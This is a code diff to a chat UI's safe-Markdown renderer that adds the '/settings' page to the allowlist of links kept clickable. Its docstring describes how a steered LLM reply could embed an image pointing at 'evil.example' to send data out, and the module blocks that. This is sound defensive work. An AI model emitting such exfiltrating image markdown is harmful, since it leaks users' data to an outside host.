@@ -6,15 +6,17 @@ link, ``###`` a heading that imitates the assistant. Staff and bot text is Markd
 (``safe_markdown``) without raw HTML, without math and without images: a reply
 phrased by the optional LLM could otherwise be steered into loading
 ``![](https://evil.example/?data=…)``. A link is a link only into our own REST API (a statement's
-signed download, ``/api/statements/…``); any other shows as its words, so no reply can send anyone
-to another site.
+signed download, ``/api/statements/…``) or to our security settings (``/settings``); any other shows as
+its words, so no reply can send anyone to another site.
 """
 
 import reflex as rx
 
 BLOCKED_IMAGE = "[image not shown]"
 OWN_LINKS = "/api/"
-"""The only links that stay links: paths of our own REST API, on this origin (a signed statement download)."""
+"""Links that stay links: paths of our own REST API, on this origin (a signed statement download)."""
+OWN_PAGE = "/settings"
+"""And the one page of ours a reply sends the customer to (to set up a passkey or an authenticator app)."""
 _HREF = rx.Var(_js_expr='(props.href ?? "")', _var_type=str)
 """The link's target, as react-markdown hands it to the component map's function."""
 
@@ -29,7 +31,7 @@ def _own_link(*children: object, **_props: object) -> rx.Component:
     href = _HREF.to(str)
     return rx.el.span(
         rx.cond(
-            href.startswith(OWN_LINKS),
+            href.startswith(OWN_LINKS) | (href == OWN_PAGE),
             rx.el.a(*children, href=href, reload_document=True, class_name="md-link"),
             rx.el.span(*children),
         ),
